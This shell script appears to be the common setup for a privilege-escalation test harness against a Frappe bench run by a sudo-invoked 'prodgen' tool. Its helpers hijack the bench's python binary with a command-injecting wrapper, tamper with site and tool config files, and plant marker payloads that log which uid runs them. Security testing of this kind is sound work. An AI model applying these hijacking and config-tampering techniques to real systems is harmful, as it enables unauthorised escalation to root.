# What the attacks have in common. Each ends by printing who ran its payload, as `id -u` has it.
BENCH=$HOME/frappe-bench LOOT=$HOME/loot VAULT=/srv/vault
cd "$HOME" || exit
COMMON=$BENCH/sites/common_site_config.json

payload() { # FILE: a program that notes who runs it
    rm -rf "$1"
    mkdir -p "$(dirname "$1")"
    printf '#!/bin/sh\nid -u >>%s\n' "$LOOT" >"$1"
    chmod 755 "$1"
}
python_does() { # COMMANDS: the bench's python does this first, as $* its arguments
    real=$(readlink -f "$BENCH/env/bin/python")
    [ -e "$BENCH/env/bin/python.real" ] || mv "$BENCH/env/bin/python" "$BENCH/env/bin/python.real"
    printf '#!/bin/bash\n%s\nexec -a %s/env/bin/python %s "$@"\n' "$1" "$BENCH" "$real" \
        >"$BENCH/env/bin/python"
    chmod 755 "$BENCH/env/bin/python"
}
config() { # KEY VALUE: sets it in common_site_config.json
    python3 - "$COMMON" "$1" "$2" <<'PY'
import json, sys
path, key, value = sys.argv[1:]
data = json.load(open(path))
data[key] = json.loads(value)
json.dump(data, open(path, "w"))
PY
}
settings() { # KEY VALUE: sets it in prodgen.yaml, which is JSON here
    python3 - "$BENCH/prodgen.yaml" "$1" "$2" <<'PY'
import json, sys
path, key, value = sys.argv[1:]
data = json.load(open(path))
data[key] = json.loads(value)
json.dump(data, open(path, "w"))
PY
}
restart() { sudo -n /usr/local/bin/prodgen restart -C "$BENCH"; echo "restart: exit $?"; }
root() { sudo -n /usr/local/sbin/root-does "$@"; echo "root $1: exit $?"; }
trap 'echo; if [ -s "$LOOT" ]; then sort -u "$LOOT" | paste -sd,; else echo nobody; fi' EXIT
